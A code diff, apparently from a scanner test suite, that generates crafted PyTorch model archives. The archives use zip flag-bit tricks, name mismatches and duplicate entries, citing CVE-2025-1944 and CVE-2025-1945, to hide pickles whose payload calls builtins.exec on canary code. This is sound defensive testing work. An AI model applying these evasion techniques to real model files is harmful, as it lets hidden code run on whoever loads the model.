@@ -66,10 +66,13 @@ def _crc(out: Path, c: Canary) -> None:
     out.write_bytes(_zip.patch(data, "archive/data.pkl", crc_xor=0x5A5A5A5A))
 
 
-@_torch("torch-zip-encrypted-flag", "cve-2025-1945-flag-bits", name="model.pt")
-def _flag(out: Path, c: Canary) -> None:
-    data = _torch_bytes(_state(c))
-    out.write_bytes(_zip.patch(data, "archive/data.pkl", flag_or=0x1))
+for _bit in (0x1, 0x20, 0x40):
+
+    def _flag(out: Path, c: Canary, bit: int = _bit) -> None:
+        data = _torch_bytes(_state(c))
+        out.write_bytes(_zip.patch(data, "archive/data.pkl", flag_or=bit))
+
+    _torch(f"torch-zip-flag-0x{_bit:02x}", "cve-2025-1945-flag-bits", name="model.pt")(_flag)
 
 
 @_torch("torch-zip-local-name-mismatch", "cve-2025-1944-name-mismatch", name="model.pt")
@@ -85,14 +88,14 @@ def _deflated(out: Path, c: Canary) -> None:
 
 @_torch("torch-zip-duplicate-first", "zip-parser-differential", name="model.pt")
 def _dup_first(out: Path, c: Canary) -> None:
-    bad = zipfile.ZipFile(io.BytesIO(_torch_bytes(_state(c)))).read("archive/data.pkl")
+    bad = pickle.dumps({"weight": [0.0], "bias": _payload(c)}, protocol=2)
     good = _torch_bytes({"weight": [0.0]})
     out.write_bytes(_zip.rewrite(good, first={"archive/data.pkl": bad}))
 
 
 @_torch("torch-zip-duplicate-last", "zip-parser-differential", name="model.pt")
 def _dup_last(out: Path, c: Canary) -> None:
-    bad = zipfile.ZipFile(io.BytesIO(_torch_bytes(_state(c)))).read("archive/data.pkl")
+    bad = pickle.dumps({"weight": [0.0], "bias": _payload(c)}, protocol=2)
     good = _torch_bytes({"weight": [0.0]})
     out.write_bytes(_zip.rewrite(good, extra={"archive/data.pkl": bad}))
 
@@ -144,4 +147,11 @@ def _sevenzip(out: Path, c: Canary) -> None:
 
 
 def _broken(c: Canary) -> bytes:
-    return proto(2) + glob("builtins", "exec") + body(c.py, 2) + pickle.TUPLE1 + pickle.REDUCE + b"\x00junk"
+    return (
+        proto(2)
+        + glob("builtins", "exec")
+        + body(c.py, 2)
+        + pickle.TUPLE1
+        + pickle.REDUCE
+        + b"\x00junk"
+    )
